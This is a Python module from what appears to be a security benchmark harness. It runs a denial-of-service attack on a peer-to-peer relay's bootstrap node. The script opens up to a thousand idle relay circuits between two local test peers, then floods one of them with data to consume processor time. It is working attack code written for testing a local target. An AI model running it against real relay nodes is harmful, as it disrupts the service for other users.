"""Circuits through the bootstrap, from one stranger to another: many idle ones, and one that is as fast as it can."""

from __future__ import annotations

import asyncio

from bench.harness.stranger.peer import Stranger
from bench.harness.stranger.relay import OK, accept_circuits, open_circuit, reserve
from bench.harness.stranger.yamux import MuxedStream
from bench.harness.target import Target

CHUNK = bytes(1 << 15)


async def attack(target: Target, idle: int = 1000, seconds_of_load: float = 1.0) -> None:
    """The idle ones stay until the end; one of them is fast for so long, and no longer: it takes a core from others."""
    async with Stranger(host="127.0.9.1") as far, Stranger(host="127.0.9.2") as near:
        accept_circuits(far, read_all)
        await reserve(await far.dial(target.bootstrap.tcp_address))
        connection = await near.dial(target.bootstrap.tcp_address)
        held = []
        for _ in range(idle):
            status, stream = await open_circuit(connection, far.peer_id)
            if status == OK:
                await stream.write(b"x")
                held.append(stream)
        if held:
            await load(held[0], seconds_of_load)
        await connection.wait_closed()


async def load(circuit: MuxedStream, seconds: float) -> None:
    loop = asyncio.get_running_loop()
    ends_s = loop.time() + seconds
    try:
        while loop.time() < ends_s:
            await circuit.write(CHUNK)
            await asyncio.sleep(0)
    except OSError:
        pass  # cut off


async def read_all(circuit: MuxedStream) -> None:
    while await circuit.read():
        pass
